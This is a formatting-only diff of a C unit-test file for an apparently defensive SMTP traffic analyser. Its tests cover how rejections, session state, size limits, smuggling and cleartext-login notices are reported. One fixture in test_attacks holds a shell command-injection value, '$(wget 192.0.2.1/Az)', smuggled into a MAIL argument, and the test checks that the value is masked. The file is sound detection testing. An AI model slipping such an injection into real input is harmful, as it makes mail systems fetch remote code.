@@ -25,13 +25,23 @@ static void evidence_is(const struct exchange *x, enum finding f, const char *wa
 /* The reply speaks for itself where it is the evidence. */
 static void test_reply(void **state)
 {
-	static const enum finding said[] = {
-	    FINDING_policy_rejection, FINDING_too_many_errors, FINDING_server_rejects_valid_command, FINDING_response_splitting,
-	    FINDING_proxy_preface_unexpected, FINDING_auth_required, FINDING_starttls_required, FINDING_auth_failed, FINDING_reply_short};
+	static const enum finding said[] = {FINDING_policy_rejection,
+					    FINDING_too_many_errors,
+					    FINDING_server_rejects_valid_command,
+					    FINDING_response_splitting,
+					    FINDING_proxy_preface_unexpected,
+					    FINDING_auth_required,
+					    FINDING_starttls_required,
+					    FINDING_auth_failed,
+					    FINDING_reply_short};
 	const struct span text[] = {SPAN_INIT("first"), SPAN_INIT("Error: no")};
 	static char most[90];
 	struct span line = span_of(most, sizeof most);
-	struct exchange x = {.code = 550, .enhanced = SPAN_INIT("5.7.1"), .text = text, .text_count = 2, .verb_text = SPAN_INIT("MAIL")};
+	struct exchange x = {.code = 550,
+			     .enhanced = SPAN_INIT("5.7.1"),
+			     .text = text,
+			     .text_count = 2,
+			     .verb_text = SPAN_INIT("MAIL")};
 
 	(void)state;
 	for (size_t i = 0; i < sizeof said / sizeof *said; i++)
@@ -56,7 +66,8 @@ static void test_reply(void **state)
 /* The line, or the part of it that is wrong. */
 static void test_line(void **state)
 {
-	struct exchange x = {.verb_text = SPAN_INIT("MIAL"), .argument = SPAN_INIT("FROM:<a@b.example>"), .bad = SPAN_INIT("a@b")};
+	struct exchange x = {
+		.verb_text = SPAN_INIT("MIAL"), .argument = SPAN_INIT("FROM:<a@b.example>"), .bad = SPAN_INIT("a@b")};
 	static char most[100];
 
 	(void)state;
@@ -80,16 +91,17 @@ static void test_state(void **state)
 		uint64_t situation;
 		const char *text;
 	} rows[] = {
-	    {0, "EHLO accepted, no MAIL, no RCPT"},
-	    {SIT(NO_HELLO_REAL), "no EHLO, no MAIL, no RCPT"},
-	    {SIT(MAIL_OPEN_REAL), "EHLO accepted, MAIL accepted, no RCPT"},
-	    {SIT(MAIL_OPEN_REAL) | SIT(RCPT_REAL), "EHLO accepted, MAIL accepted, RCPT accepted"},
-	    {SIT(AUTHENTICATED), "EHLO accepted, no MAIL, no RCPT, authenticated"},
-	    {SIT(AUTHENTICATED) | SIT(TLS), "EHLO accepted, no MAIL, no RCPT, authenticated, TLS"},
-	    {SIT(BDAT_OPEN), "EHLO accepted, no MAIL, no RCPT, message half sent"},
-	    {SIT(BDAT_OPEN) | SIT(BDAT_LAST), "EHLO accepted, no MAIL, no RCPT, BDAT LAST sent"},
-	    {SIT(BDAT_FAILED) | SIT(BDAT_LAST), "EHLO accepted, no MAIL, no RCPT, chunk refused"},
-	    {SIT(NO_HELLO) | SIT(MAIL_OPEN) | SIT(RCPT), "EHLO accepted, no MAIL, no RCPT"}, /* what the client believed is not it */
+		{0, "EHLO accepted, no MAIL, no RCPT"},
+		{SIT(NO_HELLO_REAL), "no EHLO, no MAIL, no RCPT"},
+		{SIT(MAIL_OPEN_REAL), "EHLO accepted, MAIL accepted, no RCPT"},
+		{SIT(MAIL_OPEN_REAL) | SIT(RCPT_REAL), "EHLO accepted, MAIL accepted, RCPT accepted"},
+		{SIT(AUTHENTICATED), "EHLO accepted, no MAIL, no RCPT, authenticated"},
+		{SIT(AUTHENTICATED) | SIT(TLS), "EHLO accepted, no MAIL, no RCPT, authenticated, TLS"},
+		{SIT(BDAT_OPEN), "EHLO accepted, no MAIL, no RCPT, message half sent"},
+		{SIT(BDAT_OPEN) | SIT(BDAT_LAST), "EHLO accepted, no MAIL, no RCPT, BDAT LAST sent"},
+		{SIT(BDAT_FAILED) | SIT(BDAT_LAST), "EHLO accepted, no MAIL, no RCPT, chunk refused"},
+		{SIT(NO_HELLO) | SIT(MAIL_OPEN) | SIT(RCPT),
+		 "EHLO accepted, no MAIL, no RCPT"}, /* what the client believed is not it */
 	};
 
 	(void)state;
@@ -102,7 +114,12 @@ static void test_state(void **state)
 
 static void test_numbers(void **state)
 {
-	struct exchange x = {.declared_size = 2000, .size_limit = 1000, .length = 600, .limit = 512, .announced = 70, .bad = SPAN_INIT("7x"),
+	struct exchange x = {.declared_size = 2000,
+			     .size_limit = 1000,
+			     .length = 600,
+			     .limit = 512,
+			     .announced = 70,
+			     .bad = SPAN_INIT("7x"),
 			     .verb_text = SPAN_INIT("BDAT")};
 	char small[10];
 
@@ -118,18 +135,23 @@ static void test_numbers(void **state)
 	check(evidence_of(&x, FINDING_size_exceeds_limit, small, 8), "declare");
 }
 
-/* What attacks is shown without being repeated; the same attack looks the same (FNV-1a, 64 bits, of the first 16 octets). */
+/* What attacks is shown without being repeated; the same attack looks the same (FNV-1a, 64 bits, of the first 16
+ * octets). */
 static void test_attacks(void **state)
 {
 	static char code[100];
-	struct exchange x = {.verb_text = SPAN_INIT("MAIL"), .argument = SPAN_INIT("$(wget 192.0.2.1/Az)"), .construct = SPAN_INIT("$("), .length = 4000};
+	struct exchange x = {.verb_text = SPAN_INIT("MAIL"),
+			     .argument = SPAN_INIT("$(wget 192.0.2.1/Az)"),
+			     .construct = SPAN_INIT("$("),
+			     .length = 4000};
 
 	(void)state;
 	evidence_is(&x, FINDING_code_injection_address, "$( in $(xxxx xxx.x.x.x/xx)");
 	memset(code, 'a', sizeof code);
 	code[64] = '|';
 	x.argument = span_of(code, sizeof code);
-	evidence_is(&x, FINDING_code_injection_address, "$( in xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
+	evidence_is(&x, FINDING_code_injection_address,
+		    "$( in xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
 	x.verb_text = SPAN("foo");
 	x.argument = SPAN("bar");
 	evidence_is(&x, FINDING_command_overflow, "length 4000, first octets 85944171f73967e8");
@@ -150,27 +172,35 @@ static void notice_is(const struct notice *n, const char *given, const char *wan
 static void test_notices(void **state)
 {
 	(void)state;
-	notice_is(&(struct notice){.id = NOTICE_SMUGGLING_ATTEMPT, .text = SPAN("MAIL")}, "LF.LF", "attempt: LF.LF then MAIL");
-	notice_is(&(struct notice){.id = NOTICE_SMUGGLING_CONFIRMED, .text = SPAN("MAIL")}, "LF.LF", "confirmed: LF.LF then MAIL");
+	notice_is(&(struct notice){.id = NOTICE_SMUGGLING_ATTEMPT, .text = SPAN("MAIL")}, "LF.LF",
+		  "attempt: LF.LF then MAIL");
+	notice_is(&(struct notice){.id = NOTICE_SMUGGLING_CONFIRMED, .text = SPAN("MAIL")}, "LF.LF",
+		  "confirmed: LF.LF then MAIL");
 	notice_is(&(struct notice){.id = NOTICE_STREAM_GAP, .a = 5, .b = 6}, "as given", "as given");
-	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN")}, NULL, "LOGIN; STARTTLS was not offered");
-	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN"), .situation = SIT(ADVERTISED)}, NULL,
-		  "LOGIN; STARTTLS was offered");
-	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN"), .a = 1, .situation = SIT(ADVERTISED)}, NULL,
-		  "LOGIN; STARTTLS was refused or stripped");
-	notice_is(&(struct notice){.id = NOTICE_ALL_REFUSED, .a = 10, .b = 2}, NULL, "10 octets sent, 2 of 2 recipients refused");
+	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN")}, NULL,
+		  "LOGIN; STARTTLS was not offered");
+	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN"), .situation = SIT(ADVERTISED)},
+		  NULL, "LOGIN; STARTTLS was offered");
+	notice_is(
+		&(struct notice){
+			.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN"), .a = 1, .situation = SIT(ADVERTISED)},
+		NULL, "LOGIN; STARTTLS was refused or stripped");
+	notice_is(&(struct notice){.id = NOTICE_ALL_REFUSED, .a = 10, .b = 2}, NULL,
+		  "10 octets sent, 2 of 2 recipients refused");
 	notice_is(&(struct notice){.id = NOTICE_BDAT_NO_LAST, .a = 10}, NULL, "10 octets came, no LAST");
 	notice_is(&(struct notice){.id = NOTICE_BDAT_ZEROS, .a = 10}, NULL, "10 chunks without octets");
 	notice_is(&(struct notice){.id = NOTICE_SIZE_EXCEEDED, .a = 10, .b = 9}, NULL, "10, expected 9");
-	notice_is(&(struct notice){.id = NOTICE_STREAM_GAP, .a = 10, .text = SPAN("client")}, NULL, "10 octets of the client");
+	notice_is(&(struct notice){.id = NOTICE_STREAM_GAP, .a = 10, .text = SPAN("client")}, NULL,
+		  "10 octets of the client");
 	notice_is(&(struct notice){.id = NOTICE_ADDRESS_CLAIMED, .text = SPAN("127.0.0.1")}, NULL, "127.0.0.1");
 	notice_is(&(struct notice){.id = NOTICE_NO_HANDSHAKE}, NULL, "");
 }
 
 int main(void)
 {
-	const struct CMUnitTest tests[] = {cmocka_unit_test(test_reply),   cmocka_unit_test(test_line),    cmocka_unit_test(test_state),
-					   cmocka_unit_test(test_numbers), cmocka_unit_test(test_attacks), cmocka_unit_test(test_notices)};
+	const struct CMUnitTest tests[] = {cmocka_unit_test(test_reply),   cmocka_unit_test(test_line),
+					   cmocka_unit_test(test_state),   cmocka_unit_test(test_numbers),
+					   cmocka_unit_test(test_attacks), cmocka_unit_test(test_notices)};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
